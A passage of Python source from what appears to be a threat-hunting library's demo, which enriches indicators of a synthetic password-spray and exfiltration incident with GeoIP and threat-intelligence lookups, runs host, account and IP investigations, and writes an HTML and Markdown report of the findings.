            "       min(TimeGenerated) AS FirstSeen, max(TimeGenerated) AS LastSeen\n"
            "FROM network_sessions\nGROUP BY DstIpAddr\nORDER BY BytesOut DESC, DstIpAddr"
        )
        external = peers[~peers["DstIpAddr"].map(_internal)].reset_index(drop=True)
        ips = external["DstIpAddr"].tolist()
        found = self.findings
        names = [found.get("attacker_domain"), found.get("download_url"), *found.get("decoded_iocs", [])]
        values = [*ips, *(v for v in names if v)]
        self.log(f"enrich: {len(set(values))} IoCs against the local feeds; GeoIP and hosting tags")
        providers = ["local_feeds", "iporigin"]
        try:
            geo = enrich.geoip(ips)
            tags = enrich.hosting(ips)
        except MissingExtraError as exc:  # geoip2fast and iporigin are the 'geo' extra
            self.section("Context of external addresses", text=f"Skipped: {exc}")
            providers = ["local_feeds"]
        else:
            context = external.merge(geo, left_on="DstIpAddr", right_on="ip", how="left").drop(columns="ip")
            context = context.merge(
                tags, left_on="DstIpAddr", right_on="ip", how="left", suffixes=("", "_tag")
            )
            shown = (
                *external.columns,
                "country_code",
                "asn_name",
                "is_private",
                "category",
                "provider",
                "is_anonymizer",
            )
            located = external.merge(geo, left_on="DstIpAddr", right_on="ip", how="left")
            self.section(
                "16. Context of the external addresses",
                chart=_chart(
                    lambda: vis.world_map(
                        located,
                        hover=["DstIpAddr", "Connections"],
                        weight="Connections",
                        title="External peers",
                    )
                ),
                text="Every external destination with offline GeoIP (geoip2fast data) and hosting/VPN/Tor "
                "tags (iporigin). The incident uses documentation ranges (RFC 5737), which have no "
                "location: an honest blank, not a guess.",
                table=_columns(context, shown),
                query=text,
            )
        results = ti.lookup(
            values,
            providers,
            settings={"local_feeds": {"paths": [str(p) for p in intel]}},
            config=hb_config.Config(),
            cache=False,
            progress=False,
        )
        verdicts = ti.rollup(results)
        flagged = verdicts[verdicts["flagged_by"] != ""]
        if not flagged.empty:
            found["ti_flagged"] = flagged["ioc"].tolist()
        self.section(
            "17. Threat intelligence verdicts",
            text=f"{len(verdicts)} IoCs (external addresses, the attacker's domain, the download URL and the "
            f"decoded command's IoCs) looked up in the team's offline feeds "
            f"({', '.join(p.name for p in intel)}) and the iporigin classification; {len(flagged)} are "
            "flagged. In a notebook the same flow is hb.pivots(hb.IpAddress(ip)) -> .whois() -> .geoip() "
            "-> .ti().",
            table=verdicts,
        )
        self.section(
            "Every provider's answer",
            table=results[results["status"] != "unsupported"].drop(columns="raw"),
        )


_FACTS = {  # findings key -> label in the report's summary
    "attacker_ip": "Attacker IP",
    "attacker_domain": "Attacker domain",
    "spray_start": "Password spray from",
    "spray_end": "Password spray until",
    "sprayed_accounts": "Accounts sprayed",
    "compromised_account": "Compromised account",
    "victim_host": "Victim host",
    "victim_ip": "Victim IP",
    "logon_time": "Logon (RDP) at",
    "logon_id": "Logon session",
    "powershell_time": "Encoded PowerShell at",
    "decoded_command": "Decoded command",
    "download_url": "Download URL",
    "anomaly_hour": "Exfiltration hour (start)",
    "anomaly_bytes": "Bytes sent in that hour",
    "spike_start": "Traffic anomaly (STL) from",
    "spike_end": "Traffic anomaly (STL) until",
    "top_beacon": "Most regular beacon",
    "attacker_session_rank": "Rank of the attacker's session by rarity",
    "rare_commands": "Rare commands surfaced",
    "decoded_iocs": "IoCs in the decoded command",
    "sigma_rules_hit": "Sigma rules that fired",
    "ti_flagged": "Flagged by threat intelligence",
}


def _investigate(hunt: _Hunt, out: Path, found: Mapping[str, Any]) -> list[tuple[str, str]]:
    """The host, account and IP investigations of what the hunt found, saved beside the report as
    ``investigations/<kind>-<target>.html``; (title, relative href) of each."""
    from huntbook import investigations

    links = []
    for kind, key in (("host", "victim_host"), ("account", "compromised_account"), ("ip", "attacker_ip")):
        target = found.get(key)
        if not target:
            continue
        target = str(target).rsplit("\\", 1)[-1]
        hunt.log(f"investigate: {kind} {target}")
        findings = investigations.run(kind, hunt.qp, target, hunt.start, hunt.end)
        name = f"{kind}-{re.sub(r'[^A-Za-z0-9._-]+', '_', target)}.html"
        findings.save(out / "investigations" / name)
        links.append((findings.title or name, f"investigations/{name}"))
    return links


def run(
    out_dir: PathLike = "demo-output",
    *,
    seed: int = 42,
    progress: bool | None = None,
    log: Callable[[str], None] = _quiet,
    days: int = 7,
    scale: float = 1.0,
) -> Path:
    """Generate the incident, ingest it, hunt it with the catalogue queries and write the report.

    Writes ``out_dir/data`` (:func:`generate`, and :func:`write_intel` in ``data/intel``),
    ``out_dir/store`` (a LocalStore, rebuilt on every run),
    ``out_dir/report.html``, ``out_dir/report.md`` and ``out_dir/findings.json`` (what the hunt found,
    from the data alone: compare it with ``data/truth.json``). ``progress`` is passed to ingest; ``log``
    gets one line per step. Returns the HTML report's path.
    """
    import shutil

    from huntbook.report import Chart, Links, Report
    from huntbook.session import QueryProvider
    from huntbook.store import LocalStore

    out = Path(out_dir).expanduser()
    data, store_dir = out / "data", out / "store"
    if store_dir.exists():
        if not (data / "truth.json").is_file():
            raise StoreError(
                "exists and is not a demo's store", where=str(store_dir), hint="choose another --out"
            )
        shutil.rmtree(store_dir)
    log(f"generating the incident into {data}")
    generated = generate(data, seed=seed, days=days, scale=scale)
    log(f"ingesting {generated['total']:,} records into {store_dir}")
    store = LocalStore(store_dir)
    ingested = store.ingest([data / "windows", data / "zeek"], progress=progress)
    hunt = _Hunt(QueryProvider("local", store=store), START, START + timedelta(days=days), log)
    ip = hunt.traffic()
    if ip:
        hunt.connections(ip)
        hunt.dns(ip)
    logon = hunt.logons(ip)
    if logon:
        hunt.processes(logon["victim_host"], logon["logon_id"])
    hunt.analyse(logon["victim_host"] if logon else None, logon["logon_id"] if logon else None)
    hunt.enrich(write_intel(data / "intel"))
    if ip and logon:
        hunt.timeline(ip, logon["victim_host"], logon["logon_id"])

    found = hunt.findings
    last_day = (START + timedelta(days=days - 1)).date()
    report = Report(
        "huntbook demo: password spray, encoded PowerShell, exfiltration",
        subtitle=f"corp.local, {START.date()} to {last_day}: synthetic data (seed {seed})",
    )
    story = (
        f"{found['attacker_ip']} sprayed passwords at {found['victim_host']}, logged on over RDP as "
        f"{found['compromised_account']}, ran discovery commands and an encoded PowerShell download cradle, "
        f"then sent {found['anomaly_bytes']:,} bytes back in one hour. Each section below shows the query "
        "that found its part of the story."
        if {"attacker_ip", "victim_host", "compromised_account", "anomaly_bytes"} <= found.keys()
        else "The hunt did not find the whole story; the sections below show what it found."
    )
    facts = {
        label: f"{found[k]:,}" if isinstance(found[k], int) else found[k]
        for k, label in _FACTS.items()
        if k in found
    }
    report.add("Findings", text=story, facts=facts)
    links = _investigate(hunt, out, found)
    if links:
        report.add(
            "Investigations",
            text="The host, account and IP address of the story, each summarised by an investigation "
            "(hb.investigate) run on the same store.",
        ).append(Links(links))
    files = ingested.assign(file=[Path(str(f)).name for f in ingested["file"]])
    shown = ("file", "format", "records", "ingested", "quarantined", "duplicates", "status")
    report.add("Evidence", text=f"Ingested into the LocalStore at {store_dir}.", table=_columns(files, shown))
    for section in hunt.sections:
        chart = section.pop("chart", None)
        added = report.add(section.pop("title"), **section)
        if chart is not None:
            added.append(Chart(chart))
    (out / "findings.json").write_text(json.dumps(found, indent=2) + "\n", encoding="utf-8")
    report.save(out / "report.md")
    path = report.save(out / "report.html")
    log(f"report: {path}")
    return path
